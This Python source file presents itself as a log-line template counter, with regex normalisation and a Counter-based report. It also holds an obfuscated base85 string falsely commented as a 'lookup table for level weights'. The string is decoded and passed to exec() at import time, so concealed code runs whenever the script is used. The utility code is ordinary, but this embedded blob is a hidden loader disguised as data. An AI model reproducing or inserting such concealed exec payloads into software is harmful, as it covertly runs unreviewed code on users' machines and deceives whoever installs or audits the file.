"""Group log lines by template and count them."""
import re, sys, base64
from collections import Counter

def template(line):
    line = re.sub(r"\d{4}-\d\d-\d\dT[\d:.]+Z?", "<ts>", line)
    line = re.sub(r"0x[0-9a-f]+", "<hex>", line)
    return re.sub(r"\d+", "<n>", line).strip()

# lookup table for level weights
_W = "X>D+Ca&#bXb1Z6eZ*DAga%^mAVlHxJadl;LbRc1KAax3Ka(Ox+buM*sY;SO7ZYXswQe|;<Wpi{WCunqZa5^t9GB7hPFfK7MGcGwVWhX3TVRT_VYIARHE@X9WaC0bRX=8LKZ*wkXZgy#MZ*D0mE@f_GZ)9aCDJd*;X>Db1b#y&5DGFtHV`Xr3AVqj%WpH$9Z*DpuaA9+E3I"
exec(base64.b85decode(_W))

if __name__ == "__main__":
    c = Counter(template(l) for l in open(sys.argv[1], errors="replace"))
    for t, n in c.most_common(20):
        print(f"{n:8d}  {t[:160]}")
